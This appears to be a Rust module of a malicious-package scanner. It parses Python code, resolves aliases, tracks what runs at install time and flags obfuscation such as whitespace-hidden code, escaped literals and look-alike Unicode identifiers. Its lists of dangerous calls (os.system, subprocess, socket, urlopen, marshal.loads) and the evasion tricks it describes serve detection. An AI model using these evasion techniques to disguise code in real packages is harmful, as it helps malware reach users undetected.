//! Python analysis: tree-sitter parse, import/alias resolution to canonical names,
//! light data flow (where an argument comes from), stages, and static decoding of
//! layered payloads that are analysed again with the same rules.

use std::cell::{Cell, RefCell};
use std::collections::{HashMap, HashSet};
use std::rc::Rc;

use malgraph_core::{Platform, Stage};
use std::sync::LazyLock;

use regex::Regex;
use tree_sitter::{Language, Node, Parser, Tree, TreeCursor};

use crate::decode;
use crate::ext;
use crate::fold;
use crate::model::{Facts, Raw, Scope, Sink, snippet};
use crate::patterns;
use crate::pylit;

/// What kind of file the code is in (decides the stage of its top level).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(crate) enum Role {
    Setup,
    Init,
    Pth,
    Module,
}

/// How one piece of Python code is to be analysed.
#[derive(Debug, Clone)]
pub(crate) struct PyCtx<'a> {
    pub path: &'a str,
    pub role: Role,
    /// Scope of the top level.
    pub top: Scope,
    /// Scope of function bodies not reachable from the top level.
    pub func: Scope,
    /// Decoding depth of this code.
    pub layer: u32,
    /// For decoded layers: everything is reported at the outer call site.
    pub forced: Option<(Scope, u32)>,
    /// Layers still allowed below this one.
    pub depth_left: u32,
    pub max_parse: usize,
    /// The file is part of a copy of pip (whose own entry-point calls are not a package
    /// installing others).
    pub in_pip: bool,
    /// Functions of this module that the files running first call (`setup.py` calling
    /// `helper.check()` after `from tests import helper`): they run at the top's scope.
    pub called: &'a [String],
}

// Origins of a value (bit flags).
const LIT: u32 = 1;
const DECODED: u32 = 2;
const DOWNLOADED: u32 = 4;
const FILEREAD: u32 = 8;
const STEGO: u32 = 16;
const HOST: u32 = 32;
const ENV: u32 = 64;
const OBF: u32 = 128;
const SOCKDATA: u32 = 256;
const UNKNOWN: u32 = 1024;
const STOLEN: u32 = 2048;

const INSTALL_CMDS: &[&str] = &[
    "install",
    "develop",
    "egg_info",
    "build_py",
    "build_ext",
    "build",
    "sdist",
    "bdist_wheel",
    "bdist_egg",
    "install_lib",
    "install_scripts",
    "easy_install",
    "_install",
    "_develop",
];

fn is_install_base(base: &str) -> bool {
    let last = base.rsplit('.').next().unwrap_or(base);
    INSTALL_CMDS.contains(&last)
        || last.ends_with("_install")
        || last.ends_with("install_orig")
        || base.contains("command.install")
        || base.contains("command.develop")
        || base.contains("command.egg_info")
}

const WILDCARD: &[(&str, &[&str])] = &[
    (
        "os",
        &[
            "system",
            "popen",
            "remove",
            "unlink",
            "startfile",
            "getenv",
            "environ",
            "getlogin",
            "uname",
            "dup2",
        ],
    ),
    (
        "subprocess",
        &[
            "Popen",
            "call",
            "run",
            "check_output",
            "check_call",
            "getoutput",
        ],
    ),
    (
        "base64",
        &["b64decode", "b32decode", "b16decode", "decodebytes"],
    ),
    ("socket", &["socket", "gethostname", "gethostbyname"]),
    ("urllib.request", &["urlopen", "urlretrieve", "Request"]),
    ("requests", &["get", "post"]),
    ("zlib", &["decompress"]),
    ("marshal", &["loads"]),
    ("ctypes", &["windll", "CDLL"]),
];

/// Analyse Python source `src`, appending to `sink`. Never panics on any input.
pub(crate) fn analyze(src: &[u8], ctx: &PyCtx<'_>, sink: &mut Sink, facts: &mut Facts) {
    if ctx.layer == 0 {
        sink.code_bytes += src.len() as u64;
        sink.code_lines += memchr_count(src) as u64;
    }
    text_checks(src, ctx, sink);
    if src.len() > ctx.max_parse {
        push(
            sink,
            ctx,
            "PKG-HUGE-FILE",
            0,
            "",
            format!("{} bytes: not parsed", src.len()),
            None,
        );
        return;
    }
    // Python reads identifiers in NFKC form, so a mathematical-bold `𝐞𝐱𝐞𝐜` is `exec`.
    // When identifiers are written that way, the analysis reads the file as Python does
    // (line numbers unchanged; the snippets show the ASCII form).
    if let Some(ascii) = lookalikes_to_ascii(src)
        && let Some((line, ident)) = lookalike_identifier(src)
    {
        push(
            sink,
            ctx,
            "PY-OBF-UNICODE-IDENT",
            line,
            &ident,
            format!("identifier `{ident}` uses look-alike Unicode letters (read as ASCII)"),
            Some(ctx.top),
        );
        return parse_and_walk(ascii.as_bytes(), ctx, sink, facts);
    }
    parse_and_walk(src, ctx, sink, facts);
}

fn parse_and_walk(src: &[u8], ctx: &PyCtx<'_>, sink: &mut Sink, facts: &mut Facts) {
    let parsed = parser_copy(src);
    let Some(tree) = parse(&parsed) else {
        return;
    };
    let py = Py::collect(src, &parsed, &tree, ctx);
    py.walk(ctx, sink, facts);
}

/// `src` with its mathematical alphanumeric, fullwidth and letter-like symbols
/// replaced by their NFKC (ASCII) forms, if it has any; the line structure is kept.
/// A letter or digit written in a form Python folds to ASCII when it reads identifiers
/// (NFKC): mathematical alphanumerics, fullwidth forms, letter-like symbols.
fn folds_to_ascii(c: char) -> bool {
    let u = c as u32;
    (0x1D400..=0x1D7FF).contains(&u)
        || (0xFF01..=0xFF5E).contains(&u)
        || (0x2100..=0x214F).contains(&u)
}

fn lookalikes_to_ascii(src: &[u8]) -> Option<String> {
    use unicode_normalization::UnicodeNormalization;
    // Their UTF-8 forms start with F0 9D, EF BC / EF BD and E2 84 / E2 85.
    let maybe = memchr::memchr3_iter(0xF0, 0xEF, 0xE2, src).any(|i| {
        matches!(
            (src[i], src.get(i + 1)),
            (0xF0, Some(0x9D)) | (0xEF, Some(0xBC | 0xBD)) | (0xE2, Some(0x84 | 0x85))
        )
    });
    if !maybe {
        return None;
    }
    let text = std::str::from_utf8(src).ok()?;
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if folds_to_ascii(c) {
            out.extend(std::iter::once(c).nfkc().filter(|x| *x != '\n'));
        } else {
            out.push(c);
        }
    }
    Some(out)
}

/// The first identifier of `src` written with look-alike letters, and its line.
fn lookalike_identifier(src: &[u8]) -> Option<(u32, String)> {
    let parsed = parser_copy(src);
    let tree = parse(&parsed)?;
    let mut c = tree.walk();
    loop {
        let n = c.node();
        if kind(n) == "identifier" {
            let t = text(n, src);
            if !t.is_ascii() && lookalike(t) {
                return Some((line_of(n), t.to_string()));
            }
        }
        if kind(n) != "string" && c.goto_first_child() {
            continue;
        }
        while !c.goto_next_sibling() {
            if !c.goto_parent() {
                return None;
            }
        }
    }
}

/// Parse with this thread's parser (made once per thread, not once per file).
fn parse(src: &[u8]) -> Option<Tree> {
    thread_local! {
        static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
    }
    PARSER.with(|cell| {
        let mut slot = cell.try_borrow_mut().ok()?;
        if slot.is_none() {
            let mut parser = Parser::new();
            parser
                .set_language(&tree_sitter_python::LANGUAGE.into())
                .ok()?;
            *slot = Some(parser);
        }
        slot.as_mut()?.parse(src, None)
    })
}

fn memchr_count(src: &[u8]) -> usize {
    memchr::memchr_iter(b'\n', src).count() + usize::from(!src.is_empty())
}

fn push(
    sink: &mut Sink,
    ctx: &PyCtx<'_>,
    rule: &'static str,
    line: u32,
    snip: &str,
    message: String,
    scope: Option<Scope>,
) {
    let (scope, line) = match ctx.forced {
        Some((s, l)) => (Some(s), l),
        None => (scope, line),
    };
    let message = if ctx.layer > 0 {
        format!("decoded layer {}: {message}", ctx.layer)
    } else {
        message
    };
    sink.findings.push(Raw {
        rule,
        file: ctx.path.to_string(),
        line,
        snippet: snippet(snip),
        layer: ctx.layer,
        message,
        stage: scope.map(|s| s.stage),
        factor: scope.map_or(1.0, |s| s.factor),
    });
}

/// Checks on the raw text: code hidden after long runs of whitespace, pyarmor.
fn text_checks(src: &[u8], ctx: &PyCtx<'_>, sink: &mut Sink) {
    let scope = Some(ctx.top);
    if memfind(src, b"__pyarmor__") || memfind(src, b"pyarmor_runtime") {
        push(
            sink,
            ctx,
            "PY-OBF-PYARMOR",
            0,
            "pyarmor",
            "code protected with PyArmor".into(),
            scope,
        );
    }
    if let Some((line, n)) = escaped_text_literals(src)
        && n >= ESCAPED_TEXT_MIN
    {
        push(
            sink,
            ctx,
            "PY-OBF-ESCAPED-TEXT",
            line,
            "",
            format!("{n} string literals spell ordinary text in escape codes"),
            scope,
        );
    }
    let mut reported = false;
    for (i, line) in src.split(|&c| c == b'\n').enumerate() {
        if reported {
            break;
        }
        let mut run = 0usize;
        for (j, &c) in line.iter().enumerate() {
            if c == b' ' || c == b'\t' {
                run += 1;
                continue;
            }
            if run >= 150 && j > run {
                let rest = String::from_utf8_lossy(&line[j..]);
                let r = rest.trim_start();
                if r.starts_with(';')
                    || r.contains("exec")
                    || r.contains("import")
                    || r.contains("eval")
                    || r.starts_with(',')
                {
                    push(
                        sink,
                        ctx,
                        "PY-OBF-HIDDEN-CODE",
                        i as u32 + 1,
                        &rest,
                        format!("code hidden after {run} blanks on one line"),
                        scope,
                    );
                    reported = true;
                    break;
                }
            }
            run = 0;
        }
    }
}

/// String literals (not bytes, not raw) written wholly as four or more `\\x..` / octal
/// escapes.
static ESCAPED_LITERAL: LazyLock<regex::bytes::Regex> = LazyLock::new(|| {
    regex::bytes::Regex::new(
        r#"(?:^|[^\\A-Za-z0-9_])[uU]?(['"](?:\\x[0-9a-fA-F]{2}|\\[0-7]{1,3}){4,}['"])"#,
    )
    .expect("static regex compiles")
});

/// Literals that spell ordinary text in escape codes (`"\\x65\\x76\\x61\\x6c"` for `eval`)
/// needed in one file before it is reported: one can be a test vector, several are a
/// disguise.
const ESCAPED_TEXT_MIN: usize = 3;

/// The first line and the number of string literals that write printable text (with a
/// letter) wholly in escape codes. Bytes literals are data (BOMs, magic numbers) and
/// are not counted.
fn escaped_text_literals(src: &[u8]) -> Option<(u32, usize)> {
    if !memfind(src, b"\\x") && !memfind(src, b"\\1") {
        return None;
    }
    let mut first = None;
    let mut n = 0;
    for c in ESCAPED_LITERAL.captures_iter(src) {
        let Some(m) = c.get(1) else { continue };
        let Ok(lit) = std::str::from_utf8(m.as_bytes()) else {
            continue;
        };
        let Some(d) = pylit::decode(lit) else {
            continue;
        };
        if d.bytes.iter().all(|b| (0x20..0x7f).contains(b))
            && d.bytes.iter().any(u8::is_ascii_alphabetic)
        {
            n += 1;
            first.get_or_insert(m.start());
        }
    }
    let at = first?;
    let line = src[..at].iter().filter(|&&b| b == b'\n').count() as u32 + 1;
    Some((line, n))
}

fn memfind(h: &[u8], n: &[u8]) -> bool {
    memchr::memmem::find(h, n).is_some()
}

/// Statically known bytes, and whether a decoding step produced them.
type Bytes = (Vec<u8>, bool);

struct Py<'t> {
    src: &'t [u8],
    /// What the parser read (see [`parser_copy`]): integer literals are read from it.
    parsed: &'t [u8],
    aliases: HashMap<String, String>,
    /// (enclosing function id or 0, name) -> assigned expressions.
    assigns: HashMap<(usize, String), Vec<Node<'t>>>,
    funcs_by_id: HashMap<usize, Node<'t>>,
    fn_class_by_id: HashMap<usize, String>,
    /// Function definitions as (start byte, end byte, id), by start; and the running
    /// maximum of their ends (to answer "no function here" at once).
    fn_ranges: Vec<(usize, usize, usize)>,
    fn_max_end: Vec<usize>,
    reach_top: HashSet<String>,
    reach_install: HashSet<String>,
    /// Functions registered as chat-bot handlers (`@bot.command()`,
    /// `@bot.message_handler(...)`, `@client.event`): their parameters are messages.
    chat_handlers: HashSet<usize>,
    install_classes: HashSet<String>,
    class_bases: HashMap<String, Vec<String>>,
    funcs: HashMap<String, Node<'t>>,
    /// Functions and classes defined at module level: a call of such a name is a call of
    /// the package's own code, not of the builtin it shadows (`def compile(...)`).
    module_defs: HashSet<String>,
    budget: Cell<u32>,
    bindings: RefCell<Vec<(String, Option<Bytes>)>>,
    /// Current depth of the mutually recursive evaluators (`canon`, `static_bytes`): each has
    /// its own depth limit, but they call each other with fresh depths (through `static_str`),
    /// so this shared guard is what bounds the recursion on hostile or generated code.
    nesting: Cell<u32>,
    /// The nodes the second pass acts on, in its visiting order, recorded by the first
    /// pass so the tree is walked once.
    visits: Vec<Visit<'t>>,
    /// Static text written to files, joined per function and file handle (a script written
    /// line by line with `f.write(...)`), analysed as code once the walk is over.
    written: RefCell<Vec<Written>>,
    /// `module.Class.method = function` assignments: (the assignment, the function's name).
    patches: Vec<(Node<'t>, String)>,
    /// Commands a function runs that are one of its parameters (`def run(c):
    /// subprocess.run(c, shell=True)`): (function name, parameter index not counting
    /// `self`, line, scope, snippet). Decided by what its callers pass.
    param_commands: RefCell<Vec<ParamCommand>>,
}

/// Text one function writes through one file handle.
struct Written {
    fid: usize,
    handle: String,
    /// The first write's line.
    line: u32,
    scope: Scope,
    /// (offset of the write in the source, text): the walk visits siblings last first, so
    /// the parts are put in source order before they are joined.
    parts: Vec<(usize, Vec<u8>)>,
    len: usize,
    transformed: bool,
}

/// A function's parameter run as a command: (function name, parameter index not
/// counting `self`, line, scope, snippet).
type ParamCommand = (String, usize, u32, Scope, String);

/// A node the second pass looks at, with what it needs of the node's ancestors.
struct Visit<'t> {
    node: Node<'t>,
    /// Innermost enclosing function definition.
    func: Option<Node<'t>>,
    /// The parent is a bare expression statement with one child (a docstring).
    is_doc: bool,
}

/// Deepest nesting of the static evaluators before they give up.
const MAX_NESTING: u32 = 48;

/// Leaves one level of [`Py::nesting`] when dropped.
struct NestGuard<'a>(&'a Cell<u32>);

impl Drop for NestGuard<'_> {
    fn drop(&mut self) {
        self.0.set(self.0.get().saturating_sub(1));
    }
}

static LANG: LazyLock<Language> = LazyLock::new(|| tree_sitter_python::LANGUAGE.into());

/// The id of a field of the Python grammar, looked up once per call site:
/// `Node::child_by_field_name` compares the name with every field name of the
/// grammar on each call. Use as `n.child_by_field_id(field!("function"))`.
macro_rules! field {
    ($name:literal) => {{
        static ID: LazyLock<u16> = LazyLock::new(|| {
            LANG.field_id_for_name($name)
                .map_or(0, std::num::NonZeroU16::get)
        });
        *ID
    }};
}

/// Node kind names by kind id: `Node::kind` measures and checks a C string on
/// every call, which was a visible share of the walk time.
static KINDS: LazyLock<Vec<&'static str>> = LazyLock::new(|| {
    let lang: &'static Language = &LANG;
    let mut kinds = Vec::with_capacity(lang.node_kind_count());
    for i in 0..lang.node_kind_count() {
        let name = match u16::try_from(i) {
            Ok(id) => lang.node_kind_for_id(id).unwrap_or(""),
            Err(_) => "",
        };
        kinds.push(name);
    }
    kinds
});

/// The kind of a node (same value as `Node::kind`).
fn kind<'t>(n: impl std::borrow::Borrow<Node<'t>>) -> &'static str {
    KINDS
        .get(usize::from(n.borrow().kind_id()))
        .copied()
        .unwrap_or("")
}

/// Call `f` on each named child worth visiting. Inside a string literal only the
/// interpolations are (its content pieces and escape sequences carry nothing the
/// passes use: literals are decoded from their whole text). One cursor is reused.
fn each_child<'t>(n: Node<'t>, cur: &mut TreeCursor<'t>, mut f: impl FnMut(Node<'t>)) {
    if n.child_count() == 0 {
        return;
    }
    let in_string = kind(n) == "string";
    cur.reset(n);
    if !cur.goto_first_child() {
        return;
    }
    loop {
        let ch = cur.node();
        if ch.is_named() && (!in_string || kind(ch) == "interpolation") {
            f(ch);
        }
        if !cur.goto_next_sibling() {
            break;
        }
    }
}

/// The copy of `src` the parser reads: escape runs masked ([`mask_escape_runs`]) and
/// integer arithmetic folded ([`fold::fold_into`]). Byte offsets, string and comment
/// boundaries and line ends are those of `src`; text is read from `src`, except
/// integer literals, which are read from this copy.
fn parser_copy(src: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    let mut out = match mask_escape_runs(src) {
        std::borrow::Cow::Owned(v) => Some(v),
        std::borrow::Cow::Borrowed(_) => None,
    };
    // Folding reads `src` and writes over the (possibly masked) copy: the two touch
    // disjoint kinds of bytes, and folded text inside a literal stays inside it.
    fold::fold_into(src, &mut out);
    out.map_or(std::borrow::Cow::Borrowed(src), std::borrow::Cow::Owned)
}

/// Long runs of escape sequences (`\x4d\x5a\x90...`: executables dropped from a
/// bytes literal) become one token per escape in tree-sitter, hundreds of thousands
/// of nodes for one literal. The parser gets a copy where such runs (escapes and the
/// plain characters between them; never a quote, an unescaped backslash or a line
/// end) are replaced by letters of the same length. A run starts with an escape, so
/// it lies inside one literal (or a comment) and cannot end it: the tree keeps every
/// byte offset and every string boundary, and all text is still read from the
/// original source.
fn mask_escape_runs(src: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    static RUN: LazyLock<regex::bytes::Regex> = LazyLock::new(|| {
        let esc = r#"\\(?:x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|[0-7]{1,3}|[\\'"abfnrtv])"#;
        regex::bytes::Regex::new(&format!(r#"{esc}(?:{esc}|[^\\'"\r\n])*"#))
            .expect("escape-run regex")
    });
    /// Shortest run worth masking, in bytes and in escapes.
    const MIN_RUN: usize = 256;
    const MIN_ESCAPES: usize = 32;
    if src.len() < MIN_RUN || memchr::memchr(b'\\', src).is_none() {
        return std::borrow::Cow::Borrowed(src);
    }
    let mut out: Option<Vec<u8>> = None;
    for m in RUN.find_iter(src) {
        if m.len() >= MIN_RUN && memchr::memchr_iter(b'\\', m.as_bytes()).count() >= MIN_ESCAPES {
            let buf = out.get_or_insert_with(|| src.to_vec());
            buf[m.range()].fill(b'A');
        }
    }
    match out {
        Some(v) => std::borrow::Cow::Owned(v),
        None => std::borrow::Cow::Borrowed(src),
    }
}

/// Names of a function definition's parameters in order, `self` included (`None` for `*`,
/// `/` and parameters without a name of their own).
fn param_names<'s>(f: Node<'_>, src: &'s [u8]) -> Vec<Option<&'s str>> {
    let Some(params) = f.child_by_field_id(field!("parameters")) else {
        return Vec::new();
    };
    let mut c = params.walk();
    params
        .named_children(&mut c)
        .map(|p| {
            let id = match kind(p) {
                "identifier" => Some(p),
                "typed_parameter" => p.named_child(0),
                _ => p.child_by_field_id(field!("name")),
            };
            id.map(|x| text(x, src))
        })
        .collect()
}

fn text<'a>(n: Node<'_>, src: &'a [u8]) -> &'a str {
    n.utf8_text(src).unwrap_or("")
}

/// The first few hundred bytes of a node's text (cheap on huge nodes).
fn head_text<'a>(n: Node<'_>, src: &'a [u8]) -> &'a str {
    let r = n.byte_range();
    let end = r.end.min(r.start + 320).min(src.len());
    let b = src.get(r.start..end).unwrap_or(&[]);
    match std::str::from_utf8(b) {
        Ok(s) => s,
        Err(e) => std::str::from_utf8(&b[..e.valid_up_to()]).unwrap_or(""),
    }
}

fn line_of(n: Node<'_>) -> u32 {
    n.start_position().row as u32 + 1
}

/// Chat-bot libraries (import roots).
const CHAT_LIBS: &[&str] = &[
    "discord",
    "nextcord",
    "disnake",
    "interactions",
    "hikari",
    "telebot",
    "telegram",
    "aiogram",
    "pyrogram",
    "telethon",
    "slack_bolt",
    "slack_sdk",
    "vk_api",
    "matrix_client",
    "nio",
];

/// Calls that start a chat bot's event loop.
const CHAT_START: &[&str] = &[
    "run",
    "start",
    "infinity_polling",
    "polling",
    "start_polling",
    "run_polling",
    "idle",
];

/// A decorator registering a chat-bot handler: `@bot.command()`, `@bot.hybrid_command()`,
/// `@client.event`, `@bot.message_handler(...)`, `@dp.message_handler(...)`,
/// `@app.on_message(...)`, `@router.message(...)`.
static CHAT_HANDLER_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"^@\s*[\w.]*?\b(command|hybrid_command|slash_command|event|listen|message_handler|callback_query_handler|on_message|message)\s*(\(|$)",
    )
    .expect("static regex compiles")
});

/// Whether the function definition `f` is decorated as a chat-bot handler. Command-line
/// frameworks decorate alike: a decorator rooted at `click`/`typer` (or an alias of them)
/// or at a function (a click group) rules the function out.
fn is_chat_handler(
    f: Node<'_>,
    src: &[u8],
    aliases: &HashMap<String, String>,
    funcs: &HashMap<String, Node<'_>>,
) -> bool {
    let Some(d) = f.parent().filter(|p| kind(*p) == "decorated_definition") else {
        return false;
    };
    let mut c = d.walk();
    let decorators: Vec<&str> = d
        .named_children(&mut c)
        .filter(|x| kind(*x) == "decorator")
        .map(|x| text(x, src).trim())
        .collect();
    let cli = decorators.iter().any(|t| {
        let root = t.trim_start_matches('@').trim_start();
        let root = root.split(['.', '(']).next().unwrap_or("");
        let module = aliases.get(root).map_or(root, String::as_str);
        matches!(module.split('.').next(), Some("click" | "typer")) || funcs.contains_key(root)
    });
    !cli && decorators.iter().any(|t| CHAT_HANDLER_RE.is_match(t))
}

impl<'t> Py<'t> {
    /// First pass: imports, aliases, assignments, call graph, install command classes.
    fn collect(src: &'t [u8], parsed: &'t [u8], tree: &'t Tree, ctx: &PyCtx<'_>) -> Py<'t> {
        let mut py = Py {
            src,
            parsed,
            aliases: HashMap::new(),
            assigns: HashMap::new(),
            funcs_by_id: HashMap::new(),
            fn_class_by_id: HashMap::new(),
            fn_ranges: Vec::new(),
            fn_max_end: Vec::new(),
            reach_top: HashSet::new(),
            reach_install: HashSet::new(),
            chat_handlers: HashSet::new(),
            install_classes: HashSet::new(),
            class_bases: HashMap::new(),
            funcs: HashMap::new(),
            module_defs: HashSet::new(),
            budget: Cell::new(0),
            bindings: RefCell::new(Vec::new()),
            nesting: Cell::new(0),
            visits: Vec::new(),
            written: RefCell::new(Vec::new()),
            patches: Vec::new(),
            param_commands: RefCell::new(Vec::new()),
        };
        let mut top_calls: Vec<String> = Vec::new();
        // Names called (not merely passed) at the top level: a class passed as an
        // argument (`ABC.register(Cls)`) is not instantiated.
        let mut top_callees: HashSet<String> = HashSet::new();
        let mut fn_calls: HashMap<String, Vec<String>> = HashMap::new();
        let mut fn_class: Vec<(String, String)> = Vec::new();
        let mut alias_candidates: Vec<(String, Node<'t>)> = Vec::new();
        let mut chat_handler_names: Vec<String> = Vec::new();
        // (node, enclosing function name)
        // (node, enclosing function name, its id, enclosing class, the walk's view)
        type Item<'t> = (
            Node<'t>,
            Option<Rc<str>>,
            usize,
            Option<Rc<str>>,
            (Option<Node<'t>>, bool, bool),
        );
        let mut stack: Vec<Item<'t>> =
            vec![(tree.root_node(), None, 0, None, (None, false, false))];
        let mut cur = tree.walk();
        while let Some((n, func, cur_fid, cur_cls, (walk_fn, in_concat, is_doc))) = stack.pop() {
            let mut child_func = func.clone();
            let mut child_fid = cur_fid;
            let mut child_cls = cur_cls.clone();
            let node_kind = kind(n);
            let visit = match node_kind {
                "call" | "comparison_operator" | "import_statement" | "import_from_statement" => {
                    true
                }
                "string" | "concatenated_string" => !in_concat,
                "identifier" => src.get(n.byte_range()).is_some_and(|b| !b.is_ascii()),
                _ => false,
            };
            if visit {
                py.visits.push(Visit {
                    node: n,
                    func: walk_fn,
                    is_doc,
                });
            }
            let child_walk_fn = if node_kind == "function_definition" {
                Some(n)
            } else {
                walk_fn
            };
            let child_view = (
                child_walk_fn,
                node_kind == "concatenated_string",
                node_kind == "expression_statement" && n.named_child_count() == 1,
            );
            match node_kind {
                "import_statement" => {
                    let mut c = n.walk();
                    for ch in n.named_children(&mut c) {
                        py.add_import(ch, None);
                    }
                }
                "import_from_statement" => {
                    let module = n
                        .child_by_field_id(field!("module_name"))
                        .map(|m| text(m, src).trim_start_matches('.').to_string())
                        .unwrap_or_default();
                    let mut c = n.walk();
                    for ch in n.children_by_field_name("name", &mut c) {
                        py.add_import(ch, Some(&module));
                    }
                    let mut c = n.walk();
                    let wildcard = n
                        .named_children(&mut c)
                        .any(|x| kind(x) == "wildcard_import");
                    if wildcard {
                        for (m, names) in WILDCARD {
                            if *m == module {
                                for name in *names {
                                    py.aliases.insert(name.to_string(), format!("{m}.{name}"));
                                }
                            }
                        }
                    }
                }
                "assignment" | "augmented_assignment" => {
                    if let (Some(l), Some(r)) = (
                        n.child_by_field_id(field!("left")),
                        n.child_by_field_id(field!("right")),
                    ) && matches!(kind(l), "identifier" | "attribute")
                    {
                        let key = text(l, src).to_string();
                        if matches!(kind(r), "identifier" | "attribute" | "call") {
                            alias_candidates.push((key.clone(), r));
                        }
                        if kind(l) == "attribute" && kind(r) == "identifier" {
                            py.patches.push((n, text(r, src).to_string()));
                        }
                        let fid = if kind(l) == "attribute" { 0 } else { cur_fid };
                        let v = py.assigns.entry((fid, key)).or_default();
                        if v.len() < 16 {
                            v.push(r);
                        }
                    }
                }
                "for_statement" => {
                    // for x in <iterable>: x stands for an item of the iterable.
                    if let (Some(l), Some(r)) = (
                        n.child_by_field_id(field!("left")),
                        n.child_by_field_id(field!("right")),
                    ) && kind(l) == "identifier"
                    {
                        let v = py
                            .assigns
                            .entry((cur_fid, text(l, src).to_string()))
                            .or_default();
                        if v.len() < 16 {
                            v.push(r);
                        }
                    }
                }
                "as_pattern" => {
                    // with X as y / except E as e
                    if let Some(alias) = n.child_by_field_id(field!("alias")) {
                        let mut c = n.walk();
                        if let Some(value) = n.named_children(&mut c).next() {
                            let key = text(alias, src).to_string();
                            py.assigns.entry((cur_fid, key)).or_default().push(value);
                        }
                    }
                }
                "function_definition" => {
                    if let Some(name) = n.child_by_field_id(field!("name")) {
                        let name = text(name, src).to_string();
                        if let Some(cls) = &cur_cls {
                            fn_class.push((name.clone(), cls.to_string()));
                            py.fn_class_by_id.insert(n.id(), cls.to_string());
                        }
                        child_cls = None;
                        if cur_fid == 0 && cur_cls.is_none() {
                            py.module_defs.insert(name.clone());
                        }
                        if is_chat_handler(n, src, &py.aliases, &py.funcs) {
                            py.chat_handlers.insert(n.id());
                            chat_handler_names.push(name.clone());
                        }
                        py.funcs.entry(name.clone()).or_insert(n);
                        py.funcs_by_id.insert(n.id(), n);
                        py.fn_ranges.push((n.start_byte(), n.end_byte(), n.id()));
                        child_fid = n.id();
                        child_func = Some(Rc::from(name));
                    }
                }
                "class_definition" => {
                    if let Some(name) = n.child_by_field_id(field!("name")) {
                        let name = text(name, src).to_string();
                        let mut bases = Vec::new();
                        if let Some(sc) = n.child_by_field_id(field!("superclasses")) {
                            let mut c = sc.walk();
                            for b in sc.named_children(&mut c) {
                                bases.push(text(b, src).to_string());
                            }
                        }
                        child_cls = Some(Rc::from(name.as_str()));
                        py.class_bases.insert(name, bases);
                    }
                }
                "call" => {
                    let mut names = Vec::new();
                    if let Some(f) = n.child_by_field_id(field!("function")) {
                        match kind(f) {
                            "identifier" => names.push(text(f, src).to_string()),
                            "attribute" => {
                                if let Some(a) = f.child_by_field_id(field!("attribute")) {
                                    names.push(text(a, src).to_string());
                                }
                            }
                            _ => {}
                        }
                    }
                    let callee_named = !names.is_empty();
                    if let Some(args) = n.child_by_field_id(field!("arguments")) {
                        let mut c = args.walk();
                        for a in args.named_children(&mut c) {
                            let a = if kind(a) == "keyword_argument" {
                                match a.child_by_field_id(field!("value")) {
                                    Some(v) => v,
                                    None => continue,
                                }
                            } else {
                                a
                            };
                            match kind(a) {
                                "identifier" => names.push(text(a, src).to_string()),
                                "attribute" => {
                                    if let Some(x) = a.child_by_field_id(field!("attribute")) {
                                        names.push(text(x, src).to_string());
                                    }
                                }
                                _ => {}
                            }
                        }
                    }
                    match &func {
                        Some(f) => fn_calls.entry(f.to_string()).or_default().extend(names),
                        None => {
                            if let Some(callee) = names.first().filter(|_| callee_named) {
                                top_callees.insert(callee.clone());
                            }
                            top_calls.extend(names)
                        }
                    }
                }
                "pair" => {
                    if let (Some(k), Some(v)) = (
                        n.child_by_field_id(field!("key")),
                        n.child_by_field_id(field!("value")),
                    ) {
                        let key = text(k, src).trim_matches(['\'', '"']);
                        if INSTALL_CMDS.contains(&key) && kind(v) == "identifier" {
                            py.install_classes.insert(text(v, src).to_string());
                        }
                    }
                }
                "keyword_argument" => {
                    if let (Some(k), Some(v)) = (
                        n.child_by_field_id(field!("name")),
                        n.child_by_field_id(field!("value")),
                    ) && INSTALL_CMDS.contains(&text(k, src))
                        && kind(v) == "identifier"
                    {
                        py.install_classes.insert(text(v, src).to_string());
                    }
                }
                _ => {}
            }
            each_child(n, &mut cur, |ch| {
                stack.push((
                    ch,
                    child_func.clone(),
                    child_fid,
                    child_cls.clone(),
                    child_view,
                ));
            });
        }
        py.fn_ranges.sort_unstable();
        let mut m = 0;
        py.fn_max_end = py
            .fn_ranges
            .iter()
            .map(|r| {
                m = m.max(r.1);
                m
            })
            .collect();
        // Aliases from assignments (`s = os.system`, `o = __import__('os')`).
        for (k, r) in alias_candidates {
            let is_alias_call = kind(r) == "call"
                && r.child_by_field_id(field!("function"))
                    .map(|f| {
                        matches!(
                            text(f, src),
                            "__import__" | "importlib.import_module" | "getattr" | "import_module"
                        )
                    })
                    .unwrap_or(false);
            if (kind(r) != "call" || is_alias_call)
                && let Some((c, _)) = py.canon(r, 0)
                && c != k
                && !k.contains('.')
            {
                let root = c.split('.').next().unwrap_or("");
                if is_alias_call
                    || py.aliases.contains_key(root)
                    || c.contains('.')
                    || is_code_builtin(&c)
                {
                    py.aliases.entry(k).or_insert(c);
                }
            }
        }
        // Install command classes by base.
        for (cls, bases) in &py.class_bases {
            if bases.iter().any(|b| {
                is_install_base(b) || py.aliases.get(b).is_some_and(|a| is_install_base(a))
            }) {
                py.install_classes.insert(cls.clone());
            }
        }
        // Reachability from the top level and from install commands.
        let reach = |seeds: Vec<String>| {
            let mut seen: HashSet<String> = HashSet::new();
            let mut todo = seeds;
            while let Some(f) = todo.pop() {
                if seen.insert(f.clone())
                    && let Some(cs) = fn_calls.get(&f)
                {
                    todo.extend(cs.iter().cloned());
                }
            }
            seen
        };
        // A class instantiated at the top level makes its methods reachable.
        let mut seeds_top = top_calls.clone();
        seeds_top.extend(ctx.called.iter().cloned());
        for (m, cls) in &fn_class {
            if top_callees.contains(cls) {
                seeds_top.push(m.clone());
            }
        }
        // Handlers count only beside a chat library (`@click.command()` is a CLI).
        let chat_lib = py
            .aliases
            .values()
            .any(|m| CHAT_LIBS.contains(&m.split('.').next().unwrap_or(m)));
        if !chat_lib {
            py.chat_handlers.clear();
            chat_handler_names.clear();
        }
        // A bot started at the top level (`bot.run(TOKEN)`, `infinity_polling()`) runs its
        // handlers from then on.
        if top_calls.iter().any(|c| CHAT_START.contains(&c.as_str())) {
            seeds_top.extend(chat_handler_names);
        }
        py.reach_top = reach(seeds_top);
        let seeds_install: Vec<String> = fn_class
            .iter()
            .filter(|(_, c)| py.install_classes.contains(c))
            .map(|(m, _)| m.clone())
            .collect();
        py.reach_install = reach(seeds_install);
        py
    }

